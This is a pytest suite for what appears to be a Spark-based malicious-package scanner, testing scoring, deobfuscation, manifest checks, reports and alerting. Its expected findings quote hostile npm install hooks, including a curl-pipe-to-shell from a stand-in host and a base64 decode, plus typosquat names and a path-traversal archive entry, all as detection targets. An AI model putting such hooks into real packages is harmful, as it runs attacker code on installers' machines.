import io
import json
import tarfile

import pytest
from pyspark.sql import functions as F

from quillscan import cli
from quillscan.functions.catalog import builtin_rules
from quillscan.operators import manifest, scan, score
from quillscan.plans import notify, report, samples
from quillscan.sources import config, files
from quillscan.sources.config import Target
from quillscan.streaming import monitor


def found(spark, rows):
    shape = "rule_id string, severity string, file string, tags array<string>"
    df = spark.createDataFrame(rows, shape)
    rank = F.array_position(F.array(*[F.lit(s) for s in ("low", "medium", "high", "critical")]), F.col("severity")).cast("int")
    return df.select("*", F.lit(1).alias("line"), F.lit(1).alias("column"), F.lit(False).alias("deobfuscated"), F.lit(0).alias("rule_ordinal"), F.lit(0).alias("match_ordinal"), rank.alias("severity_rank"))


def test_score_of_the_documented_example(spark):
    rules = {r.id: r for r in builtin_rules()}
    ids = ["SC-034", "SC-039", "SC-018", "OBF-006", "SC-001", "SC-007"] + ["SC-007"] * 8
    s = score.scores(found(spark, [(i, rules[i].severity, "a.js", list(rules[i].tags)) for i in ids])).first()
    assert (s["score"], s["level"], s["verdict"], s["n_findings"]) == (42, "HIGH", "BLOCK", 14)
    assert s["tags"] == ["#malware", "#obfuscated", "#exfiltration", "#recon"]
    assert [(c["category"], c["points"]) for c in s["categories"]] == [("Network", 25), ("Exfiltration", 11), ("Recon", 4), ("Filesystem", 1), ("Obfuscation", 1)]


def test_one_critical_rule_many_times_and_clean_subjects(spark):
    rows = [("A", "critical", "x", ["c2"])] * 50
    got = {r["file"]: r for r in score.scores(found(spark, rows), spark.createDataFrame([("x",), ("y",)], "file string")).collect()}
    assert (got["x"]["score"], got["x"]["level"], got["x"]["verdict"]) == (25, "MEDIUM", "BLOCK")
    assert (got["y"]["score"], got["y"]["level"], got["y"]["verdict"], list(got["y"]["tags"])) == (0, "CLEAN", "PASS", [])


@pytest.mark.parametrize(("score_", "level", "verdict"), [(0, "CLEAN", "PASS"), (15, "LOW", "PASS"), (16, "MEDIUM", "REVIEW"), (40, "MEDIUM", "REVIEW"), (41, "HIGH", "INVESTIGATE"), (70, "HIGH", "INVESTIGATE"), (71, "CRITICAL", "BLOCK")])
def test_levels(spark, score_, level, verdict):
    df = spark.range(1).select(score.level(F.lit(score_)).alias("l")).select("l", score.verdict(F.col("l"), F.lit(score_ >= 71)).alias("v"))
    assert tuple(df.first()) == (level, verdict)


def test_scan_raw_before_rewritten_and_dedup(spark):
    sources = spark.createDataFrame([("a.js", 'eval("1")\nx = "\\x61\\x62\\x63\\x64"\neval("2") // scan-ignore-line'), ("b.d", "eval(1)"), ("c.js", None), ("d.js", "")], "path string, content string")
    every = scan.scan(sources)
    once = scan.deduplicate(every)
    rows = sorted((r["rule_id"], r["line"], r["deobfuscated"]) for r in once.collect())
    assert rows == [("OBF-001", 1, False), ("OBF-003", 2, False)]
    assert scan.deduplicate(once).count() == len(rows)
    assert scan.rewritten(sources.where("path = 'a.js'")).first()["content"].startswith("/* unwrapped:eval */ 1")
    assert {r["pass"] for r in scan.transform_totals(scan.rewritten(sources)).collect()} == {"string_decode", "eval_unwrap"}


def test_manifest_checks(spark):
    df = spark.createDataFrame([*samples.MANIFESTS.items(), ("bad", "{"), ("list", "[]"), ("none", None)], "path string, content string")
    got = [(r["path"][0], r["rule_id"], r["severity"], r["detail"]) for r in manifest.check(df).orderBy("path", "ordinal").collect()]
    assert got == [
        ("a", "MANIFEST-001", "critical", "postinstall: curl http://x.example | sh"),
        ("a", "MANIFEST-004", "high", "bin.b: eval.js"),
        ("a", "MANIFEST-002", "medium", "expres ~ express (distance 1)"),
        ("a", "MANIFEST-002", "medium", "loda-sh ~ lodash (separator trick)"),
        ("a", "MANIFEST-002", "medium", "momnet ~ moment (distance 2)"),
        ("a", "MANIFEST-003", "high", "@corp/react vs react"),
        ("a", "MANIFEST-003", "medium", "@corp/axios shadows axios"),
        ("b", "MANIFEST-001", "critical", "preinstall: node -e 1"),
        ("b", "MANIFEST-005", "critical", "install: echo aGk= | base64 -d"),
        ("b", "MANIFEST-001", "critical", "prepare: bash -c x"),
        ("b", "MANIFEST-006", "high", "preuninstall: see https://x.example"),
        ("c", "MANIFEST-004", "high", "bin.<default>: wget.sh"),
        ("c", "MANIFEST-002", "medium", "koaa ~ koa (distance 1)"),
        ("c", "MANIFEST-002", "medium", "react-domm ~ react-dom (distance 1)"),
    ]
    assert scan.deduplicate(manifest.as_findings(manifest.check(df))).where("file = 'a/package.json'").count() == 4
    assert {r["path"] for r in manifest.invalid(df).collect()} == {"bad", "list", "none"}
    deps = manifest.dependencies(df)
    assert {r["name"] for r in manifest.merged(deps).collect()} >= {"react", "koaa", "left"}


def sample_outcome(**more):
    f = {"rule_id": "SC-1", "rule_name": "thing", "description": "d", "severity": "critical", "file": "/w/a.js", "line": 3, "column": 2, "snippet": "x" * 200, "tags": ["c2"], "deobfuscated": True}
    return report.Outcome("pkg", [f, f | {"rule_id": "SC-2", "severity": "low", "snippet": ""}], 26, "MEDIUM", "BLOCK", ["#malware"], [{"category": "Network", "findings": 2, "points": 26}], **more)


def test_reports():
    o = sample_outcome()
    body = json.loads(report.json_report(o))
    assert body["risk_level"] == "medium" and len(body["findings"][0]) == 10
    run = json.loads(report.sarif_report(o, base="/w"))["runs"][0]
    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == ["SC-1", "SC-2"] and run["results"][1]["ruleIndex"] == 1 and run["results"][1]["level"] == "note"
    assert run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "a.js"
    text = report.text_report(o, 1, 2, 2048, 1.5, verbose=True)
    assert "1 file · 2 manifests · 2.0 KB · 1.50s" in text and "BLOCK — likely malicious" in text and "[deob]" in text and "x" * 97 not in text
    assert "[OK] no findings" in report.text_report(report.Outcome("p", []))
    assert report.exit_code(o.findings) == 2 and report.exit_code(o.findings[1:]) == 0 and report.exit_code(o.findings[1:], "low") == 2


@pytest.mark.parametrize(("threshold", "events", "verdict", "fires"), [("low", ("finding",), "PASS", True), ("critical", ("finding",), "PASS", True), ("low", ("block",), "PASS", False), ("low", ("block",), "BLOCK", True), ("odd", ("block",), "BLOCK", True), ("low", (), "BLOCK", False)])
def test_event_gate(threshold, events, verdict, fires):
    o = sample_outcome()
    assert notify.fires(Target(threshold=threshold, events=events), report.Outcome(o.subject, o.findings, 26, "MEDIUM", verdict)) is fires
    assert not notify.fires(Target(), report.Outcome("p", []))
    assert not notify.fires(Target(threshold="high"), report.Outcome("p", o.findings[1:], 1, "LOW", "PASS"))


def test_payloads_and_dispatch():
    o, sent = sample_outcome(), []

    def transport(url, body):
        if "fail" in url:
            raise OSError("down")
        sent.append((url, json.loads(body)))

    targets = [Target("u1"), Target("fail"), Target(None), Target("u2", "slack"), Target("u3", "discord"), Target(format="telegram", token="T", chat_id="7"), Target(format="telegram")]
    assert notify.dispatch(targets, o, transport) == [None, "OSError: down", "url is missing", None, None, None, "token and chat_id are missing"]
    by = dict(sent)
    assert by["u1"]["finding_count"] == 2 and "column" not in by["u1"]["findings"][0]
    assert by["u2"]["blocks"][0]["text"]["text"].startswith(":no_entry: *") and by["u3"]["embeds"][0]["color"] == 0xF2C14E
    text = by["https://api.telegram.org/botT/sendMessage"]
    assert text["chat_id"] == "7" and "L3 (deobfuscated)\n    " + "x" * 160 + "…" in text["text"]


def test_config(tmp_path):
    assert [config.seconds(x) for x in ("90", "5m", "1.5h", "2 days", "x", "")] == [90, 300, 5400, 172800, None, None]
    c = config.parse('[monitor]\npaths = ["p"]\ninterval = "10m"\nregistry = true\n[[webhook]]\nurl = "u"\nformat = "Slack"\nthreshold = "high"')
    assert (c.paths, c.interval_s, c.registry, c.targets[0].format, c.targets[0].threshold) == (("p",), 600.0, True, "slack", "high")
    assert config.parse("[monitor]\ninterval = 'odd'").interval_s == 300.0
    with pytest.raises(OSError):
        config.load(str(tmp_path / "none.toml"))


@pytest.fixture
def tree(tmp_path):
    root = tmp_path / "proj"
    for name, text in {
        "a.js": "eval(x)\n", "b.d.ts": "eval(x)", "node_modules/c.js": "eval(x)", "big.js": "eval(x)" + " " * 500, "sub/package.json": samples.MANIFESTS["a/package.json"],
        "skip/e.ts": "eval(x)", "sub/f g+h.ts": "debugger;", "notes.txt": "eval(x)", ".scanignore": "# none\nskip/*.ts\n",
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    (root / "bad.js").write_bytes(b"eval(x)\xff\xfe")
    return root


def test_files(spark, tree):
    got = {r["path"].removeprefix(f"{tree}/"): r for r in files.files(spark, [str(tree)], max_bytes=400).collect()}
    assert set(got) == {"a.js", "big.js", "bad.js", "sub/package.json", "sub/f g+h.ts"}
    assert got["big.js"]["content"] is None and got["bad.js"]["content"] is None and got["a.js"]["content"] == "eval(x)\n"
    assert [r["path"] for r in files.files(spark, [str(tree / "node_modules" / "c.js")]).collect()] == [str(tree / "node_modules" / "c.js")]
    assert files.files(spark, [str(tree / "node_modules")]).count() == 0
    stats = files.scan_stats(files.files(spark, [str(tree)])).first()
    assert (stats["js_files"], stats["manifest_files"]) == (4, 1)


def test_ignore_globs_hold_on_any_root_and_overlapping_roots_count_once(spark, tree):
    (tree / ".scanignore").write_text("skip/*.ts\n# none\n\n**/f g*.ts\n[ab]?.js\n")
    for name in ("ab.js", "x/ab.js", "x/y/f gz.ts", "skip/deep/e.ts", "x/h.js"):
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_text("eval(x)")
    names = lambda paths: sorted(r["path"].removeprefix(f"{tree}/") for r in files.files(spark, paths).select("path").collect())
    want = ["a.js", "bad.js", "big.js", "skip/deep/e.ts", "sub/package.json", "x/ab.js", "x/h.js"]
    assert names([str(tree)]) == want == names([f"file://{tree}"])
    # A path below another takes what its own ignore file leaves; what both take counts once.
    both = files.files(spark, [str(tree), str(tree / "x"), str(tree / "ab.js"), f"file://{tree}", str(tree / "node_modules/c.js")])
    assert sorted(r["path"].removeprefix(f"{tree}/") for r in both.select("path").collect()) == sorted([*want, "x/y/f gz.ts", "node_modules/c.js"])
    assert "Exchange" not in both._jdf.queryExecution().executedPlan().toString()


@pytest.mark.parametrize(("glob", "yes", "no"), [
    ("*.js", ["a.js", ".b.js"], ["x/a.js", "a.jsx"]), ("**/*.js", ["a.js", "x/y/a.js"], ["a.ts"]), ("x/**", ["x/a", "x/y/b"], ["x", "xx/a"]),
    ("x/**/z?", ["x/z1", "x/a/b/zz"], ["x/z", "x/a/z/1"]), ("[!ab].ts", ["c.ts"], ["a.ts", "/.ts"]), ("a+(b).js", ["a+(b).js"], ["aab.js"]), ("[].js", ["[].js"], [".js"]),
])
def test_globs(glob, yes, no):
    import re

    found = re.compile(files.glob_pattern(glob))
    assert all(found.fullmatch(x) for x in yes) and not any(found.fullmatch(x) for x in no)


def test_command_line(spark, tree, tmp_path):
    out = io.StringIO()
    assert cli.main([str(tree), "-f", "json"], spark, out) == 2
    body = json.loads(out.getvalue())
    assert body["verdict"] == "BLOCK" and {f["rule_id"] for f in body["findings"]} >= {"OBF-001", "EV-001", "MANIFEST-001", "MANIFEST-003"}
    assert [f["severity"] for f in body["findings"]] == sorted((f["severity"] for f in body["findings"]), key=["critical", "high", "medium", "low"].index)
    keys = str(tmp_path / "accepted")
    assert cli.main([str(tree), "--baseline", keys, "--write-baseline"], spark, out) == 0
    out = io.StringIO()
    assert cli.main([str(tree), "--baseline", keys], spark, out) == 0 and "[OK] no findings" in out.getvalue() and "left out" in out.getvalue()
    out = io.StringIO()
    assert cli.main([str(tree), "-f", "sarif", "--no-manifest", "--disable", "OBF-001", "-s", "medium"], spark, out) == 0
    assert {r["ruleId"] for r in json.loads(out.getvalue())["runs"][0]["results"]} == {"EV-001"}
    assert cli.main([str(tree), "--manifest-only", "-q"], spark, out) == 2
    assert cli.main([str(tree), "-s", "odd"], spark, out) == 1 and cli.main(["--rules", str(tree / "none")], spark, out) == 1
    out = io.StringIO()
    assert cli.main(["--list-rules"], spark, out) == 0 and out.getvalue().strip().endswith("102 rules")
    out = io.StringIO()
    assert cli.main([str(tree), "-d"], spark, out) == 0 and "// === " in out.getvalue()


def test_reports_written_by_tasks_have_the_bytes_of_the_collected_ones(spark, tmp_path):
    from quillscan.plans import export

    texts = [("é/" + str(k) + ".js", v + "\n// ü\n" + w) for k, (v, w) in enumerate(zip(list(samples.RULES.values())[:40], reversed(list(samples.RULES.values())), strict=False))]
    every = scan.deduplicate(scan.scan(spark.createDataFrame(texts, "path string, content string").repartition(5))).cache()
    for found in (every, every.where(F.lit(False)), every.limit(1)):
        scored = score.scores(found.withColumn("subject", F.lit("s")), subject="subject")
        o = report.outcome("s", scan.ordered(found), scored)
        export.write_json(found, scored, str(tmp_path / "j"))
        export.write_sarif(found, scored, f"file://{tmp_path}/s", base="é")
        export.write_accepted(found, str(tmp_path / "a"))
        report.write_accepted([r["key"] for r in scan.accepted_keys(found).collect()], str(tmp_path / "b"), found.count())
        assert (tmp_path / "j").read_text() == report.json_report(o)
        assert (tmp_path / "s").read_text() == report.sarif_report(o, base="é")
        assert (tmp_path / "a").read_text() == (tmp_path / "b").read_text()


def test_archives(spark):
    blob = io.BytesIO()
    with tarfile.open(fileobj=blob, mode="w:gz") as tar:
        for name, text in {"package/index.js": b"eval(x)", "../evil.js": b"eval(x)", "/abs.js": b"eval(x)", "package/package.json": samples.MANIFESTS["c/package.json"].encode(), "package/x.js": b"\xff"}.items():
            info = tarfile.TarInfo(name)
            info.size = len(text)
            tar.addfile(info, io.BytesIO(text))
    df = spark.createDataFrame([("p@1", bytearray(blob.getvalue())), ("broken@1", bytearray(b"no"))], "subject string, content binary")
    got = {(r["subject"], r["file"], r["rule_id"]) for r in monitor.archive_findings(df).collect()}
    assert {("p@1", "package/index.js", "OBF-001"), ("p@1", "package/package.json", "MANIFEST-004")} <= got and {f for _, f, _ in got} == {"package/index.js", "package/package.json"}


def test_registry_and_chats(spark):
    latest = files.registry_versions(spark.createDataFrame([("a", '{"dist-tags":{"latest":"2"},"versions":{"2":{"dist":{"tarball":"u"}}}}'), ("b", "no")], "name string, json string"))
    assert [tuple(r) for r in latest.collect()] == [("a", "2", "u")]
    assert monitor.to_download(latest, None).count() == 1 and monitor.to_download(latest, latest).count() == 0
    assert files.registry_url("http://r/", "@s/n") == "http://r/@s%2fn"
    updates = '{"result":[{"message":{"chat":{"id":1,"title":"T"}}},{"channel_post":{"chat":{"id":2,"username":"u"}}},{"edited_message":{"chat":{"id":1,"title":"Z"}}},{"other":{}},{"my_chat_member":{"chat":{"id":3}}}]}'
    assert sorted(map(tuple, files.chats(spark.createDataFrame([(updates,)], "json string")).collect())) == [(1, "T"), (2, "u"), (3, "(chat)")]


def test_registry_polls(spark):
    manifests = spark.createDataFrame([("package.json", '{"dependencies": {"a": "1", "b": "*"}, "devDependencies": {"a": "2"}, "peerDependencies": {"p": "1"}}')], "path string, content string")
    document = lambda name, v: (name, json.dumps({"dist-tags": {"latest": v}, "versions": {v: {"dist": {"tarball": f"{name}-{v}"}}}}))
    table = lambda *rows: spark.createDataFrame(list(rows), "name string, json string")
    fetch, known = monitor.poll(manifests, table(document("a", "1"), document("b", "1"), document("p", "1"), document("z", "1")), None)
    assert {r["tarball"] for r in fetch.collect()} == {"a-1", "b-1"}
    fetch, known = monitor.poll(manifests, table(document("a", "2")), known)
    assert {r["tarball"] for r in fetch.collect()} == {"a-2"} and {tuple(r) for r in known.collect()} == {("a", "2"), ("b", "1")}
    assert monitor.poll(manifests, table(document("a", "2"), document("b", "1")), known)[0].count() == 0


def test_new_keys_as_a_stream(spark, few_partitions, tmp_path):
    source, sink = tmp_path / "in", tmp_path / "out"
    for k, rows in enumerate([[("s", "a"), ("s", "b"), ("t", "a")], [("s", "b"), ("s", "c")], [("s", "a"), ("s", "c")]]):
        spark.createDataFrame(rows, "subject string, key string").coalesce(1).write.mode("append").parquet(str(source))
        q = monitor.new_keys(spark.readStream.schema("subject string, key string").parquet(str(source))).writeStream.format("parquet").option("checkpointLocation", str(tmp_path / "cp")).outputMode("append").trigger(availableNow=True).start(str(sink))
        q.awaitTermination()
        want = [{("s", "a"), ("s", "b"), ("t", "a")}, {("s", "c")}, {("s", "a")}][: k + 1]
    got = sorted(map(tuple, spark.read.parquet(str(sink)).collect()))
    assert got == sorted([x for w in want for x in w])


def test_watching_a_folder(spark, few_partitions, tmp_path):
    folder, lines, sent = tmp_path / "w", [], []
    folder.mkdir()
    (folder / "a.js").write_text("eval(x)")
    settings = config.Config(targets=(Target("u"),))
    run = lambda: monitor.watch(spark, str(folder), settings, str(tmp_path / "state"), transport=lambda u, b: sent.append(json.loads(b)), show=lines.append, once=True).awaitTermination()
    run()
    (folder / "package.json").write_text(samples.MANIFESTS["c/package.json"])
    (folder / "clean.js").write_text("let a = 1")
    run()
    assert len(lines) == 2 and "a.js — PASS (10/100, 1 finding)" in lines[0] and "package.json" in lines[1]
    assert [s["finding_count"] for s in sent] == [1, 2]


def test_a_finding_that_goes_and_comes_back_is_new_again(spark, few_partitions, tmp_path):
    folders, lines = [tmp_path / "v", tmp_path / "w"], []
    for f in folders:
        f.mkdir()
    settings = config.Config(registry=True)
    version = lambda path: F.regexp_replace(path, r"@[0-9]+(?=[.])", "")
    registry = {"lodash": "1.0"}

    def documents(wanted):
        names = [r["name"] for r in wanted.collect()]
        table = [(n, json.dumps({"dist-tags": {"latest": v}, "versions": {v: {"dist": {"tarball": f"{n}-{v}"}}}})) for n, v in registry.items() if n in names]
        return spark.createDataFrame(table, "name string, json string")

    (folders[1] / "package.json").write_text('{"dependencies": {"lodash": "1"}}')
    for k, text in enumerate(["eval(x)", "eval(x)", "let a = 1", "eval(x)"]):
        (folders[0] / f"a@{k}.js").write_text(text)
        registry["lodash"] = "1.0" if k < 3 else "2.0"
        monitor.watch(spark, [str(f) for f in folders], settings, str(tmp_path / "state"), show=lines.append, once=True, subject=version, documents=documents).awaitTermination()
    assert [line.split("/")[-1] for line in lines if "a.js" in line] == [line.split("/")[-1] for line in lines if "a.js" in line][:1] * 2
    assert [line for line in lines if line.startswith("lodash")] == ["lodash 1.0 — lodash-1.0", "lodash 2.0 — lodash-2.0"]


def test_findings_as_lines(spark):
    sources = spark.createDataFrame([("a.js", "eval(x)")], "path string, content string")
    assert json.loads(report.finding_lines(scan.scan(sources)).first()["value"])["rule_id"] == "OBF-001"


def test_functions_in_sql(spark):
    from quillscan.functions import sql

    sql.register(spark)
    spark.createDataFrame([("a.js", 'eval("1")'), ("b.txt", "eval(2)"), ("c.js", None)], "path string, content string").createOrReplaceTempView("sources")
    assert [tuple(r) for r in spark.sql("SELECT path, f.rule_id, f.line FROM sources, LATERAL scan_source(path, content) f").collect()] == [("a.js", "OBF-001", 1)]
    got = spark.sql("SELECT rewrite_source(content) AS r, entropy_of(content) AS e FROM sources ORDER BY path").collect()
    assert got[0]["r"] == "/* unwrapped:eval */ 1" and got[2]["r"] is None and got[1]["e"] > 2
